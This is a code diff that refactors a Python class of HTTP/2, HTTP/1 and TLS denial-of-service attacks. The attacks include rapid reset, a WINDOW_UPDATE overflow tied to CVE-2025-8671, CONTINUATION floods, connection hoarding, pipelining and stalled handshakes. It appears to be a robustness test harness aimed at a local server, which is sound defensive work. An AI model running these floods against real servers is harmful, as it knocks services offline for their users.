@@ -36,13 +36,21 @@ class Attack:
         finally:
             c.sock.settimeout(20)
 
-    def flood(self, make, settings=b"", before=None):
-        """Sends make(connection) again and again."""
+    def again(self, attempt):
+        """Until the time is over, however often it is cut off."""
         while not self.over():
             try:
-                c = H2(self.port, self.cafile, settings)
+                attempt()
             except OSError:
-                continue
+                self.cut += 1
+
+    def flood(self, make, before=None):
+        """Sends make(connection) again and again."""
+        def attempt():
+            try:
+                c = H2(self.port, self.cafile)
+            except OSError:
+                return
             self.connections += 1
             try:
                 if before:
@@ -50,32 +58,23 @@ class Attack:
                 while not self.over():
                     c.send(make(c))
                     self.drain(c)
-            except (OSError, ssl.SSLError):
-                self.cut += 1
-            c.close()
+            finally:
+                c.close()
+        self.again(attempt)
+
+    def requests(self, c, count, behind=lambda n: b""):
+        """Requests, each with something more of its stream behind it."""
+        return b"".join(frame(HEADERS, END_HEADERS | END_STREAM, n, h2.block(self.path)) + behind(n)
+                        for n in [c.stream() for _ in range(count)])
 
     # --- HTTP/2 ---
 
     def rapid_reset(self):
-        def make(c):
-            out = b""
-            for _ in range(50):
-                n = c.stream()
-                out += frame(HEADERS, END_HEADERS | END_STREAM, n, h2.block(self.path))
-                out += frame(RST_STREAM, 0, n, struct.pack(">I", 8))
-            return out
-        self.flood(make)
+        self.flood(lambda c: self.requests(c, 50, lambda n: frame(RST_STREAM, 0, n, struct.pack(">I", 8))))
 
     def made_reset(self):
         """The server is made to reset: an increment that overflows the stream's window (CVE-2025-8671)."""
-        def make(c):
-            out = b""
-            for _ in range(50):
-                n = c.stream()
-                out += frame(HEADERS, END_HEADERS | END_STREAM, n, h2.block(self.path))
-                out += frame(WINDOW_UPDATE, 0, n, struct.pack(">I", 0x7fffffff))
-            return out
-        self.flood(make)
+        self.flood(lambda c: self.requests(c, 50, lambda n: frame(WINDOW_UPDATE, 0, n, struct.pack(">I", 0x7fffffff))))
 
     def continuation(self):
         self.flood(lambda c: frame(CONTINUATION, 0, 1, h2.literal("x", "y" * 100)) * 20,
@@ -106,8 +105,7 @@ class Attack:
         self.flood(lambda c: frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 1)) * 100)
 
     def zero_windows(self):
-        self.flood(lambda c: frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 0)) * 50,
-                   before=lambda c: frame(HEADERS, END_HEADERS | END_STREAM, c.stream(), h2.block(self.path)))
+        self.flood(lambda c: frame(WINDOW_UPDATE, 0, 1, struct.pack(">I", 0)) * 50, before=lambda c: self.requests(c, 1))
 
     def unknown_frames(self):
         self.flood(lambda c: frame(0xbe, 0xff, 0, b"x" * 10) * 100)
@@ -125,46 +123,36 @@ class Attack:
                    frame(CONTINUATION, 0, n, b"\x00\x01x" + h2.integer(7, 0, 60000) + b"c" * 16000) +
                    frame(CONTINUATION, 0, n, b"c" * 16000) * 2)
 
+    def hoard(self, *settings, more=b"", **connection):
+        """Connections of ninety requests each, all of which stay."""
+        kept = []
+
+        def attempt():
+            c = H2(self.port, self.cafile, *settings, **connection)
+            c.send(more + self.requests(c, 90))
+            kept.append(c)
+            self.connections += 1
+            time.sleep(0.02 if len(kept) < 20 else 0.2)
+        self.again(attempt)
+
     def window_stall(self):
         """A hundred answers of which nothing may be sent."""
-        kept = []
-        while not self.over():
-            try:
-                c = H2(self.port, self.cafile, h2.setting(4, 0))
-                c.send(b"".join(frame(HEADERS, END_HEADERS | END_STREAM, c.stream(), h2.block(self.path))
-                                for _ in range(90)))
-                kept.append(c)
-                self.connections += 1
-                time.sleep(0.02 if len(kept) < 20 else 0.2)
-            except OSError:
-                self.cut += 1
+        self.hoard(h2.setting(4, 0))
 
     def read_nothing(self):
         """Windows wide open, and nothing is read."""
-        kept = []
-        while not self.over():
-            try:
-                c = H2(self.port, self.cafile, h2.setting(4, 0x7fffffff), receive_buffer=4096)
-                c.send(frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7fff0000 - 65535)))
-                c.send(b"".join(frame(HEADERS, END_HEADERS | END_STREAM, c.stream(), h2.block(self.path))
-                                for _ in range(90)))
-                kept.append(c)
-                self.connections += 1
-                time.sleep(0.02 if len(kept) < 20 else 0.2)
-            except OSError:
-                self.cut += 1
+        self.hoard(h2.setting(4, 0x7fffffff), more=frame(WINDOW_UPDATE, 0, 0, struct.pack(">I", 0x7fff0000 - 65535)),
+                   receive_buffer=4096)
 
     def pings_unread(self):
         """Answers that nobody takes must not pile up."""
-        while not self.over():
-            try:
-                c = H2(self.port, self.cafile, receive_buffer=4096)
-                self.connections += 1
-                c.sock.settimeout(0.5)
-                while not self.over():
-                    c.send(frame(PING, 0, 0, b"12345678") * 300)
-            except OSError:
-                self.cut += 1
+        def attempt():
+            c = H2(self.port, self.cafile, receive_buffer=4096)
+            self.connections += 1
+            c.sock.settimeout(0.5)
+            while not self.over():
+                c.send(frame(PING, 0, 0, b"12345678") * 300)
+        self.again(attempt)
 
     def garbage(self):
         self.flood(lambda c: os.urandom(5000))
@@ -174,54 +162,47 @@ class Attack:
 
     # --- HTTP/1 ---
 
-    def one(self):
-        c = h2.connect(self.port, self.cafile, alpn="http/1.1")
-        self.connections += 1
-        return c
+    def http1(self, talk):
+        """talk(socket), again and again."""
+        def attempt():
+            with h2.connect(self.port, self.cafile, alpn="http/1.1") as c:
+                self.connections += 1
+                talk(c)
+        self.again(attempt)
 
     def large_heads(self):
-        while not self.over():
-            try:
-                with self.one() as c:
-                    c.sendall(b"GET / HTTP/1.1\r\nHost: localhost\r\n")
-                    while not self.over():
-                        c.sendall(b"x: " + b"y" * 8000 + b"\r\n")
-            except OSError:
-                self.cut += 1
+        def talk(c):
+            c.sendall(b"GET / HTTP/1.1\r\nHost: localhost\r\n")
+            while not self.over():
+                c.sendall(b"x: " + b"y" * 8000 + b"\r\n")
+        self.http1(talk)
 
     def large_cookies(self):
-        while not self.over():
-            try:
-                with self.one() as c:
-                    c.sendall(f"GET {self.path} HTTP/1.1\r\nHost: localhost\r\nCookie: ".encode() + b"c=" * 30000)
-                    c.sendall(b"\r\n\r\n")
-                    c.recv(1000)
-            except OSError:
-                self.cut += 1
+        def talk(c):
+            c.sendall(f"GET {self.path} HTTP/1.1\r\nHost: localhost\r\nCookie: ".encode() + b"c=" * 30000)
+            c.sendall(b"\r\n\r\n")
+            c.recv(1000)
+        self.http1(talk)
 
     def pipeline(self):
         """Thousands of requests in a row, no answer read."""
-        while not self.over():
-            try:
-                with self.one() as c:
-                    c.settimeout(0.5)
-                    while not self.over():
-                        c.sendall(f"GET {self.path} HTTP/1.1\r\nHost: localhost\r\n\r\n".encode() * 200)
-            except OSError:
-                self.cut += 1
+        def talk(c):
+            c.settimeout(0.5)
+            while not self.over():
+                c.sendall(f"GET {self.path} HTTP/1.1\r\nHost: localhost\r\n\r\n".encode() * 200)
+        self.http1(talk)
 
     def handshakes(self):
         """TLS that begins and goes no further."""
         kept = []
-        while not self.over():
-            try:
-                raw = socket.create_connection(("127.0.0.1", self.port), timeout=5)
-                self.connections += 1
-                raw.sendall(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc" + os.urandom(20))
-                kept = kept[-400:] + [raw]
-                time.sleep(0.002)
-            except OSError:
-                self.cut += 1
+
+        def attempt():
+            kept.append(socket.create_connection(("127.0.0.1", self.port), timeout=5))
+            del kept[:-400]
+            self.connections += 1
+            kept[-1].sendall(b"\x16\x03\x01\x02\x00\x01\x00\x01\xfc" + os.urandom(20))
+            time.sleep(0.002)
+        self.again(attempt)
 
 
 def main():
